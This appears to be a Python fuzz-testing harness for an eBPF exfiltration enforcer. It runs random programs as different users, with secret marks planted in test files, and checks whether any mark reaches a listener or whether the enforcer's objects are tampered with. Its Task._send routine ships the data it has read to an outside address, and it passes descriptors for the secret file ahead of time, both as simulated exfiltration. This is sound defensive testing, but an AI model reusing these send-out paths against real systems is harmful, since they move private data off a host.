# Copyright (c) 2026 the exfil.guard authors
# GNU General Public License v3.0+ (see LICENSES/GPL-3.0-or-later.txt or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""Where random programs run, and what must not happen: a piece of what is secret at the listener, a pin, link, program, map or file
of the enforcer that is gone or changed, a probe that ends otherwise than before."""

import contextlib
import mmap
import os
import random
import select
import shutil
import signal
import socket
import struct
import threading
import time
from typing import Dict, List, NamedTuple, Optional, Set, Tuple

from harness.enforcer import Enforcer
from harness.testbed import Testbed
from techniques.registry import Absent
from techniques.steps import private_mounts
from techniques.syscalls import Ring, bpf, call, system
from techniques.tamper import PINS

from generator.operations import DOMAINS, OPERATIONS, READER, ROOT
from generator.program import LONGEST, Program

PIECE = 8  # bytes of a mark that are enough to know it again
DEEPEST, SECONDS = 3, 4
NO_EFFECT, ENDED = 198, 197
RING = 1 << 16
FILES = ("/usr/lib/exfil-guard", "/var/lib/exfil-guard")
SWITCHES = [path for path in DOMAINS["switch"] if path.startswith("/proc/sys/") and "drop_caches" not in path]


class Ran(NamedTuple):
    ends: Tuple[int, ...]  # by depth and step: 0 not run, else errno + 1
    reasons: Tuple[int, ...]  # of denials during the program, those that there were


class End(Exception):
    """This task goes no further."""


class Task:
    """Runs a program: its descriptors, its mappings, what it has read."""

    End = End

    def __init__(self, place: Testbed, program: Program, page: mmap.mmap, descriptors: List[int], own: str) -> None:
        self.place, self.program, self.page, self.own = place, program, page, own
        self.fds, self.maps, self.data = descriptors, [], []  # type: List[int], List[mmap.mmap], List[bytes]
        self.outside = (place.outside4, place.port)
        self.next, self.depth, self.rings = 0, 0, []  # type: int, int, List[Ring]

    def path(self, name: str) -> str:
        place = self.place
        if name.startswith("/"):
            return name
        found = {
            "secret": place.secret,
            "customers": place.customers,
            "secret folder": place.secret_folder,
            "exports": place.exports + "/a.csv",
            "other": place.open + "/other",
            "base": place.base,
            "root/secret": "/proc/self/root" + place.secret,
        }.get(name)
        if found:
            return found
        if name == "proc fd 0":
            return f"/proc/self/fd/{self.fds[0]}"
        if name == "last descriptor":
            return f"/proc/self/fd/{self.fds[-1]}"
        return f"{self.own}/{name}"

    def fd(self, number: int) -> int:
        return self.fds[number]

    def keep(self, descriptor: int) -> None:
        self.fds.append(descriptor)

    def got(self, data: bytes) -> None:
        self.data.append(data)

    def last(self) -> bytes:
        return (self.data[-1] if self.data else b"nothing at all, in some more bytes than a piece needs")[:1024]

    def ring(self) -> Ring:
        if not self.rings:
            self.rings.append(Ring())
        return self.rings[-1]

    def fork(self, make=os.fork) -> None:
        if self.depth >= DEEPEST:
            raise OSError(11, "too deep")
        child = make()
        if child == 0:
            self.depth += 1
            try:
                self.rest()
            finally:
                os._exit(0)
        with contextlib.suppress(ChildProcessError):
            os.waitpid(child, 0)

    def rest(self) -> None:
        """Every step from here, then what was read is sent."""
        with contextlib.suppress(End):
            while self.next < len(self.program):
                number, step = self.next, self.program[self.next]
                self.next += 1
                at = 2 * (self.depth * LONGEST + number)
                ended = ENDED  # unless it says how
                self._note(at, ended)
                try:
                    OPERATIONS[step.name].function(self, *step.arguments)
                    ended = 0
                except OSError as error:
                    ended = error.errno or NO_EFFECT
                except End:
                    self._note(at, 0)
                    raise
                except (IndexError, ValueError, OverflowError, Absent, KeyError, TypeError, StopIteration):
                    ended = NO_EFFECT
                self._note(at, ended)
        self._send()

    def _note(self, at: int, ended: int) -> None:
        struct.pack_into("=H", self.page, at, min(ended, 250) + 1)

    def _send(self) -> None:
        if not self.data:
            return
        data = b"\n".join(self.data)[:32768]
        for kind in (socket.SOCK_DGRAM, socket.SOCK_STREAM):
            with contextlib.suppress(OSError), socket.socket(socket.AF_INET, kind) as one:
                one.settimeout(0.3)
                one.connect(self.outside)
                one.sendall(data)
                return


class Listener:
    """A process that takes whatever comes. It shows it in memory: who reads that carries no label."""

    def __init__(self, address: Tuple[str, int]) -> None:
        self.shown, self.seen = mmap.mmap(-1, RING + 8), 0
        stream, datagrams = socket.socket(), socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        for one in (stream, datagrams):
            one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            one.bind(address)
        stream.listen(64)
        self.pid = os.fork()
        if self.pid == 0:
            self._take(stream, datagrams)
        stream.close()
        datagrams.close()

    def _take(self, stream: socket.socket, datagrams: socket.socket) -> None:
        written, open_ones = 0, [stream, datagrams]
        while True:
            for one in select.select(open_ones, [], [])[0]:
                try:
                    if one is stream:
                        open_ones.append(stream.accept()[0])
                        continue
                    data = one.recv(32768)
                except OSError:
                    data = b""
                if one is not datagrams and not data:
                    open_ones.remove(one)
                    one.close()
                for start in range(0, len(data), 1024):
                    part = data[start : start + 1024]
                    at = 8 + written % (RING - 1024)
                    self.shown[at : at + len(part)] = part
                    written += len(part)
                struct.pack_into("=Q", self.shown, 0, written)

    def anything(self) -> bool:
        count = struct.unpack_from("=Q", self.shown)[0]
        new, self.seen = count != self.seen, count
        return bool(new)

    def has(self, mark: bytes) -> bool:
        return any(
            self.shown.find(mark[start : start + PIECE]) >= 0 for start in range(0, len(mark) - PIECE + 1, PIECE)
        )


class World:
    def __init__(self, mode: str, without: List[str], seed: int) -> None:
        self.place, self.enforcer = Testbed(), Enforcer()
        self.mode, self.without = mode, without
        self.dice = random.Random(f"marks {seed}")
        self.place.prepare()
        for child in self.place.background:
            os.kill(child, signal.SIGKILL)
            os.waitpid(child, 0)
        call("prctl", 36, 1, 0, 0, 0)  # PR_SET_CHILD_SUBREAPER
        self.listener = Listener((self.place.outside4, self.place.port))
        self.page = mmap.mmap(-1, 4096)
        self.own = self.place.open + "/program"
        self.switches = {path: _text(path) for path in SWITCHES if os.path.exists(path)}
        self.marks: Dict[bytes, Tuple[str, Program]] = {}
        self.install()

    def install(self) -> None:
        self.enforcer.install()
        self.enforcer.apply({**self.policy(), "mode": self.mode})
        for hook in self.without:
            folder = next(name for name in os.listdir(PINS) if name.startswith("links-"))
            for name in os.listdir(f"{PINS}/{folder}"):
                if name.split("__")[0] == hook:
                    os.unlink(f"{PINS}/{folder}/{name}")
        self.counts = self.enforcer.kernel.get(PINS + "/maps/totals")
        self.files = _state_of_files()
        self.there = self.objects()
        self.wanted = self.verdicts()

    def policy(self) -> Dict:
        place = self.place
        bound = {"alice": {"users": [place.names["alice"]]}, "root": {"services": ["adversary-files.service"]}}
        away = {"destinations": {"not": ["vault"]}}
        return {
            "subjects": {**bound, "readers": {"has_read": ["customers"]}},
            "resources": {
                "secret": {"paths": [place.secret_folder + "/**", place.exports + "/*.csv"]},
                "customers": {"paths": [place.customers_folder + "/**"]},
            },
            "destinations": {"vault": {"cidrs": [place.vault4 + "/32"]}},
            "rules": [
                {"name": "files", "deny": ["read", "write"], "subjects": ["alice", "root"], "resources": ["secret"]},
                {"name": "readers", "deny": ["connect", "send", "reply"], "subjects": ["readers"], **away},
            ],
        }

    # ---- a program ------------------------------------------------------------------------------------------------

    def run(self, who: str, program: Program) -> Ran:
        secret, customers = self._fresh()
        self.marks[customers] = (who, program)
        if who != READER:  # the reader may read the secret
            self.marks[secret] = (who, program)
        while len(self.marks) > 64:
            self.marks.pop(next(iter(self.marks)))
        self.page[:512] = bytes(512)
        before = self._reasons()
        child = os.fork()
        if child == 0:
            try:
                os.setsid()
                null = os.open("/dev/null", os.O_RDWR)
                for each in (0, 1, 2):
                    os.dup2(null, each)
                descriptors = self._descriptors()
                if who == ROOT:
                    private_mounts()
                self.place.become(who)
                os.chdir(self.own)
                threading.excepthook = lambda arguments: None
                Task(self.place, program, self.page, descriptors, self.own).rest()
            finally:
                os._exit(0)
        self._wait(child)
        ends = struct.unpack_from(f"={LONGEST * (DEEPEST + 1)}H", self.page)
        after = self._reasons()
        return Ran(ends, tuple(place for place, (new, old) in enumerate(zip(after, before)) if new != old))

    def _descriptors(self) -> List[int]:
        """What a program has from the start; opened by root, whom no rule binds."""
        place = self.place
        secret = os.open(place.secret, os.O_RDWR)
        found = [secret, os.open(place.secret_folder, os.O_RDONLY), os.open(place.secret, os.O_PATH)]
        datagrams = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        datagrams.connect((place.outside4, place.port))
        found.append(datagrams.detach())
        found += os.pipe2(os.O_NONBLOCK)
        ours, theirs = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
        for one in (ours, theirs):
            one.setblocking(False)
        socket.send_fds(theirs, [b"x"], [secret])  # in flight
        return [*found, ours.detach(), theirs.detach()]

    def _fresh(self) -> Tuple[bytes, bytes]:
        shutil.rmtree(self.own, ignore_errors=True)
        os.mkdir(self.own)
        os.mkdir(self.own + "/d")
        os.mkdir(self.own + "/m")
        for path in (self.own, self.own + "/d", self.own + "/m"):
            os.chmod(path, 0o777)
        place = self.place
        for folder in (place.secret_folder, place.customers_folder, place.exports):
            if not os.path.isdir(folder) or os.path.islink(folder):
                with contextlib.suppress(OSError):
                    os.unlink(folder)
                os.makedirs(folder, exist_ok=True)
            os.chmod(folder, 0o777)
        marks = [b"%024x" % self.dice.getrandbits(96) for _ in range(2)]
        for path, data in (
            (place.secret, marks[0]),
            (place.exports + "/a.csv", marks[0]),
            (place.customers, marks[1]),
            (place.open + "/other", b"nothing of interest\n"),
        ):
            if os.path.isdir(path) and not os.path.islink(path):
                shutil.rmtree(path)
            elif os.path.lexists(path):
                os.unlink(path)
            with open(path, "wb") as file:
                file.write(b"mark " + data + b"\n")
            os.chmod(path, 0o666)
        os.setxattr(place.secret, "user.mark", marks[0])
        return marks[0], marks[1]

    def _reasons(self) -> Tuple[int, ...]:
        """How many denials there were, by their reason."""
        value = self.enforcer.kernel.lookup(self.counts, bytes(4))
        numbers = struct.unpack_from("=20Q", value or bytes(160))
        return (numbers[0], numbers[1], *numbers[4:])

    def _wait(self, child: int) -> None:
        ends = time.monotonic() + SECONDS
        done = 0
        while not done and time.monotonic() < ends:
            done = os.waitpid(child, os.WNOHANG)[0]
            if not done:
                time.sleep(0.001)
        with contextlib.suppress(ProcessLookupError):
            os.killpg(child, signal.SIGKILL)
        if not done:
            os.kill(child, signal.SIGKILL)
            os.waitpid(child, 0)
        self._reap()

    def _reap(self) -> None:
        """Children whose parents have ended are the runner's."""
        for folder in ("/sys/fs/cgroup/mine",):
            with contextlib.suppress(OSError):
                os.rmdir(folder)
        ends = time.monotonic() + 1
        while time.monotonic() < ends:
            try:
                with open(f"/proc/self/task/{os.getpid()}/children", encoding="ascii") as file:
                    children = [int(word) for word in file.read().split() if int(word) != self.listener.pid]
            except OSError:
                return
            if not children:
                return
            for each in children:
                with contextlib.suppress(OSError):
                    os.kill(each, signal.SIGKILL)
                with contextlib.suppress(OSError):
                    os.waitpid(each, os.WNOHANG)
            time.sleep(0.001)

    # ---- what must not happen -------------------------------------------------------------------------------------

    def leaked(self, patience: float = 0.0) -> Optional[Tuple[str, Program]]:
        """Whose mark arrived."""
        ends = time.monotonic() + patience
        while not self.listener.anything():
            if time.monotonic() >= ends:
                return None
            time.sleep(0.001)
        for mark, whose in self.marks.items():
            if self.listener.has(mark):
                self.marks.clear()
                return whose
        return None

    def objects(self) -> Dict[str, Set]:
        numbers = {}
        for kind, command in (("program", 11), ("map", 12), ("link", 31)):
            found, last = set(), 0
            with contextlib.suppress(OSError):  # the end
                while True:
                    last = _next_of(command, last)
                    found.add(last)
            numbers[kind] = found
        numbers["pin"] = {os.path.join(folder, name) for folder, _, names in os.walk(PINS) for name in names}
        return numbers

    def verdicts(self) -> Dict[str, int]:
        """Fixed operations and how they end."""
        place = self.place
        self._fresh()

        def look(path, flags=os.O_RDONLY):
            return lambda: os.close(os.open(path, flags))

        def sends():
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
                one.sendto(b"probe", (place.outside4, place.port))

        def reads_and_sends():
            with open(place.customers, "rb") as file:
                file.read()
            sends()

        return {
            name: self._ended(who, operation)
            for name, who, operation in (
                ("alice reads the secret", "alice", look(place.secret)),
                ("alice writes the secret", "alice", look(place.secret, os.O_WRONLY)),
                ("alice reads something else", "alice", look(place.open + "/other")),
                ("alice reads an export", "alice", look(place.exports + "/a.csv")),
                ("root in the unit reads the secret", ROOT, look(place.secret)),
                ("bob reads the secret", "bob", look(place.secret)),
                ("bob sends", "bob", sends),
                ("bob reads the customers' data and sends", "bob", reads_and_sends),
            )
        }

    def _ended(self, who: str, operation) -> int:
        child = os.fork()
        if child == 0:
            code = 0
            try:
                self.place.become(who)
                operation()
            except OSError as error:
                code = error.errno or NO_EFFECT
            finally:
                os._exit(code)
        return os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])

    def changed(self) -> str:
        """What is not as it was, or nothing."""
        now = self.objects()
        for kind, before in self.there.items():
            if before - now[kind]:
                return f"gone: {kind} {', '.join(map(str, sorted(before - now[kind])))}"
        for path, state in self.files.items():
            if _state_of(path) != state:
                return f"changed: {path}"
        verdicts = self.verdicts()
        for name, wanted in self.wanted.items():
            if verdicts[name] != wanted:
                return f"{name}: {verdicts[name]}, was {wanted}"
        return ""

    def restore(self) -> None:
        """As it was at the start."""
        for path, text in self.switches.items():
            with contextlib.suppress(OSError), open(path, "w", encoding="ascii") as file:
                file.write(text)
        if not self.changed():
            return
        os.close(self.counts)
        with contextlib.suppress(AssertionError):
            self.enforcer.remove()
        self.install()


def _text(path: str) -> str:
    with open(path, encoding="ascii", errors="replace") as file:
        return file.read()


def _next_of(command: int, last: int) -> int:
    import ctypes

    attribute = ctypes.create_string_buffer(struct.pack("=II", last, 0), 128)
    system("bpf", command, attribute, 128)
    return int(struct.unpack_from("=I", attribute, 4)[0])


def _state_of(path: str) -> Tuple:
    try:
        found = os.lstat(path)
    except OSError:
        return ()
    return found.st_ino, found.st_mode, found.st_uid, found.st_size, found.st_mtime_ns


def _state_of_files() -> Dict[str, Tuple]:
    return {
        os.path.join(folder, name): _state_of(os.path.join(folder, name))
        for top in FILES
        for folder, _, names in os.walk(top)
        for name in names
    }


assert bpf
